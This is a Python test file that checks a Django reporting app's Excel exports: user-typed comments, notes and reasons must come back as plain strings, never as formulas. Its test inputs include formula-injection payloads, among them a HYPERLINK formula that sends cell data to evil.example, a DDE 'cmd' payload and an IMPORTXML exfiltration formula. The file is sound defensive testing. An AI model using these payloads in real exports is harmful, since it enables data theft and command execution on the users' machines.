"""Text a person typed (notes, review comments, narratives, printed names) is never a formula in our
Excel exports, whatever it starts with: re-read with openpyxl, the cell is a string (CSV/formula injection)."""
import io

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from indicators.models import Indicator
from lifecycle.models import SubmissionStatus
from plumbing.xlsx import FORMULA_PREFIXES, text_cell, text_value, workbook_bytes, write_text
from regions.models import Region
from reporting.models import IndicatorValue, Submission

from .conftest import examples

# Any character but surrogates (which cannot be encoded at all) and NUL (which PostgreSQL cannot store);
# control characters the xlsx format cannot hold are dropped by write_text (test_xlsx_control_characters.py).
PRINTABLE = st.characters(exclude_categories=("Cs",), exclude_characters="\x00")
FORMULA_LIKE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")', "=1+1", "+1+1", "-1+1", "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0", "=IMPORTXML(CONCAT(\"http://x/?\",A2),\"//a\")", "-", "=", "@", "+", "=A1\n=A2",
]
user_text = st.one_of(
    st.sampled_from(FORMULA_LIKE),
    st.tuples(st.sampled_from(FORMULA_PREFIXES), st.text(PRINTABLE, max_size=60)).map("".join),
    st.text(PRINTABLE, min_size=1, max_size=60),
)
dangerous_text = st.one_of(
    st.sampled_from(FORMULA_LIKE),
    st.tuples(st.sampled_from(FORMULA_PREFIXES), st.text(PRINTABLE, max_size=60)).map("".join),
)


def reread(data: bytes):
    return load_workbook(io.BytesIO(data))


def same_text(stored, written: str) -> bool:
    # XML turns a bare carriage return into a line feed on reading; the text is otherwise unchanged.
    return stored == written or stored == written.replace("\r\n", "\n").replace("\r", "\n")


def assert_plain_string(cell, text: str) -> None:
    text = ILLEGAL_CHARACTERS_RE.sub("", text)
    assert cell.data_type != "f", (cell.coordinate, text)
    if not text:
        return  # nothing left to show (the text was only control characters): an empty cell
    assert cell.data_type == "s", (cell.coordinate, cell.data_type, text)
    assert same_text(cell.value, text), (cell.value, text)
    if text.startswith(FORMULA_PREFIXES):
        assert cell.quotePrefix, "Excel must show the text as typed, not evaluate it on edit"


@settings(max_examples=examples(150))
@given(text=user_text)
@example(text="=1+1")
def test_write_text_never_writes_a_formula(text):
    workbook = Workbook()
    write_text(workbook.active["B2"], text)

    cell = reread(workbook_bytes(workbook)).active["B2"]

    assert_plain_string(cell, text)


@settings(max_examples=examples(60))
@given(text=user_text, write_only=st.booleans())
@example(text="=1+1", write_only=True)
def test_appended_text_cells_never_hold_a_formula_even_in_a_write_only_workbook(text, write_only):
    workbook = Workbook(write_only=write_only)
    sheet = workbook.create_sheet("s")
    sheet.append([text_cell(sheet, text), text_value(sheet, text)])

    cells = reread(workbook_bytes(workbook))["s"]

    assert_plain_string(cells["A1"], text)
    assert_plain_string(cells["B1"], text)


# --- whole exports, through the views ---------------------------------------------------------

@pytest.mark.django_db
@settings(max_examples=examples(12))
@given(comment=dangerous_text)
def test_review_comments_stay_text_in_the_completeness_export(client, yangjiang_reviewer, comment):
    Submission.objects.update_or_create(region=Region.objects.get(code="441781"), year=2024, defaults={
        "status": SubmissionStatus.RETURNED, "review_comment": comment})
    client.force_login(yangjiang_reviewer)

    response = client.get("/dashboard/441700/2024/completeness.xlsx")

    assert response.status_code == 200
    sheet = reread(response.content)["填报进度"]
    row = next(row for row in sheet.iter_rows(min_row=2) if row[0].value == "441781")
    assert_plain_string(row[7], comment)
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


@pytest.mark.django_db
@settings(max_examples=examples(12))
@given(note=dangerous_text, reason=dangerous_text)
def test_notes_and_reasons_stay_text_in_the_entry_sheet(client, yangchun_officer, note, reason):
    submission, _ = Submission.objects.get_or_create(region=Region.objects.get(code="441781"), year=2024)
    IndicatorValue.objects.update_or_create(submission=submission, indicator=Indicator.objects.get(code="OH02"),
                                            defaults={"numerator": 45, "denominator": 50, "value": 90, "note": note})
    IndicatorValue.objects.update_or_create(submission=submission, indicator=Indicator.objects.get(code="OH03"),
                                            defaults={"not_applicable": True, "not_applicable_reason": reason})
    client.force_login(yangchun_officer)

    response = client.get("/reporting/441781/2024/excel/")

    assert response.status_code == 200
    sheet = reread(b"".join(response.streaming_content))["填报"]
    rows = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
    assert_plain_string(rows["OH02"][10], note)  # column K: 数据来源/说明
    assert_plain_string(rows["OH03"][9], reason)  # column J: 无法填报原因
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


@pytest.mark.django_db
def test_every_text_cell_of_the_matrix_export_is_a_string(client, yangjiang_reviewer):
    """The compliance matrix carries printed targets and explanations: no cell is a formula."""
    submission = Submission.objects.create(region=Region.objects.get(code="441781"), year=2024,
                                           status=SubmissionStatus.APPROVED)
    IndicatorValue.objects.create(submission=submission, indicator=Indicator.objects.get(code="OH02"),
                                  numerator=45, denominator=50, value=90, note="=HYPERLINK(\"http://evil\")")
    client.force_login(yangjiang_reviewer)

    response = client.get("/dashboard/441700/2024/matrix.xlsx")

    assert response.status_code == 200
    workbook = reread(response.content)
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert cells and all(cell.data_type in ("s", "n") for cell in cells)
